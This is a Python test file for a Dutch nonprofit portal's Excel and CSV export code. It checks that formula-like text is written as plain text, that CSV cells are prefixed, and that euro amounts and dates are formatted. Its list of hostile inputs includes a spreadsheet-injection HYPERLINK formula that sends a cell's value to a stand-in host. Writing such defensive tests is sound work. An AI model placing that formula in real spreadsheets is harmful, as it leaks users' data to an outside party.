import io
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from npo_portal.exports import append_row, csv_writer

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&B6,"Klik hier")',
    "+31 118 123456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_texts_that_look_like_formulas_are_written_as_plain_text_cells():
    workbook = Workbook()
    sheet = workbook.active
    for text in HOSTILE:
        append_row(sheet, [text, Decimal("12.50"), 3])
    buffer = io.BytesIO()
    workbook.save(buffer)

    reread = load_workbook(io.BytesIO(buffer.getvalue())).active
    for row, text in zip(reread.iter_rows(), HOSTILE, strict=True):
        assert row[0].data_type == "s"
        # openpyxl keeps a carriage return (as _x000D_); other writers store "\n".
        assert row[0].value in (text, text.replace("\r", "\n"))
        assert row[1].data_type == "n" and row[1].value == 12.5
        assert row[2].value == 3


def test_control_characters_are_dropped_so_the_workbook_can_be_written():
    workbook = Workbook()
    append_row(workbook.active, ["a\x00b\x07c"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].value == "abc"


def test_csv_prefixes_formula_like_texts_and_writes_amounts_and_dates_the_dutch_way():
    import datetime

    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", "@A1", "gewoon", Decimal("-5.00"), "-", datetime.date(2022, 3, 1)])
    assert buffer.getvalue() == "'=1+1;'@A1;gewoon;-5,00;'-;01-03-2022\r\n"


def test_a_write_only_sheet_takes_a_row_that_starts_with_a_text():
    """openpyxl's write-only sheet describes a handed-in cell in an error message before it
    places it; a cell without a coordinate made that crash on a row's first column."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Blad")
    for text in HOSTILE:
        append_row(sheet, [text, Decimal("12.50")])
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue()))["Blad"]
    assert [row[0].data_type for row in reread.iter_rows()] == ["s"] * len(HOSTILE)
    assert [row[1].value for row in reread.iter_rows()] == [12.5] * len(HOSTILE)


def test_an_xlsx_amount_is_a_euro_number_and_a_date_a_date():
    """Issue 31: no "122701.66" without format, no date as text."""
    import datetime

    from npo_portal.exports import DATE_FORMAT, DATETIME_FORMAT, EURO_FORMAT, percentage

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Blad")
    moment = datetime.datetime(2022, 10, 12, 16, 5)
    append_row(
        sheet,
        [Decimal("122701.66"), datetime.date(2022, 3, 1), moment, percentage(Decimal("37.5"))],
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    amount, day, at, share = next(load_workbook(io.BytesIO(buffer.getvalue()))["Blad"].rows)
    assert (amount.value, amount.number_format) == (122701.66, EURO_FORMAT)
    assert (day.value, day.number_format) == (datetime.datetime(2022, 3, 1), DATE_FORMAT)
    assert (at.value, at.number_format) == (moment, DATETIME_FORMAT)
    assert share.value == 37.5 and "€" not in share.number_format


def test_a_csv_file_is_its_header_first_behind_the_byte_order_mark_then_a_line_per_row():
    import datetime

    from npo_portal.exports import csv_lines, csv_text

    rows = [[datetime.date(2022, 3, 1), Decimal("1234.50"), "=1+1"], [None, Decimal("-5"), ""]]
    lines = list(csv_lines(["Datum", "Bedrag", "Omschrijving"], rows))
    assert lines == [
        "\ufeffDatum;Bedrag;Omschrijving\r\n",
        "01-03-2022;1234,50;'=1+1\r\n",
        ";-5;\r\n",
    ]
    assert csv_text(["Datum"], []) == "\ufeffDatum\r\n"


def test_a_streamed_sheet_holds_what_openpyxl_cells_hold():
    """`StreamedSheet` writes a row as SpreadsheetML text (issue 32: openpyxl's cell objects
    cost most of the report job's spreadsheet); read back, every cell is what `append_row`
    writes: the same value, type, number format and style, texts never formulas."""
    import datetime

    import pytest
    from django.utils import timezone
    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Font

    from npo_portal.exports import TEXT, Number, StreamedSheet

    moment = timezone.make_aware(datetime.datetime(2022, 10, 12, 16, 5))
    values = [
        *HOSTILE,
        "  spaties rondom  ",
        "a & b < c > d",
        "regel\r\nregel",
        "",
        "x" * 40000,
        "a\x00b\x07c",
        Decimal("-1234.56"),
        Decimal("0.10"),
        datetime.date(2021, 3, 1),
        moment,
        Number(Decimal("37.5")),
        7,
        2.5,
        True,
    ]
    rows = [[value, None, value] for value in values] + [[None, None], []]

    expected = Workbook(write_only=True)
    plain = expected.create_sheet("Blad")
    for row in rows:
        append_row(plain, row)
    bold = [Cell(plain, row=1, column=1, value="Totaal"), Cell(plain, row=1, column=1)]
    bold[1].value = Decimal("5.00")
    bold[1].number_format = '"€" #,##0.00;"€" -#,##0.00'
    for cell in bold:
        cell.font = Font(bold=True)
    plain.append(bold)

    streamed = Workbook(write_only=True)

    def style_of(number_format, is_bold):
        cell = Cell(sheet, row=1, column=1)
        if number_format not in (None, TEXT):
            cell.number_format = number_format
        if is_bold:
            cell.font = Font(bold=True)
        return cell.style_id if cell.has_style else None

    sheet = StreamedSheet(streamed, "Blad", style_of=style_of)
    streamed._add_sheet(sheet)
    sheet.CHUNK = 3  # several chunks, the last one short
    for row in rows:
        sheet.write(row)
    sheet.write(["Totaal", Decimal("5.00")], bold=True)
    with pytest.raises(TypeError):
        sheet.append(["not through write"])

    def cells(workbook):
        buffer = io.BytesIO()
        workbook.save(buffer)
        reread = load_workbook(io.BytesIO(buffer.getvalue()))["Blad"]
        return [
            [
                (c.coordinate, c.value, c.data_type, c.number_format, c.font.b, c.has_style)
                for c in row
            ]
            for row in reread.iter_rows()
        ]

    written = cells(streamed)
    assert written == cells(expected)
    assert len(written) == len(rows) + 1
    assert all(row[0][2] == "s" for row in written[: len(HOSTILE)])
    assert written[-1][1][3:5] == ('"€" #,##0.00;"€" -#,##0.00', True)


def test_a_streamed_sheet_without_rows_is_an_empty_sheet():
    from npo_portal.exports import StreamedSheet

    workbook = Workbook(write_only=True)
    for title in ("Leeg", "Één regel"):
        sheet = StreamedSheet(workbook, title, style_of=lambda number_format, bold: None)
        workbook._add_sheet(sheet)
    sheet.write(["é & ü < ö", 5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue()))
    assert list(reread["Leeg"].values) == []
    assert list(reread["Één regel"].values) == [("é & ü < ö", 5)]
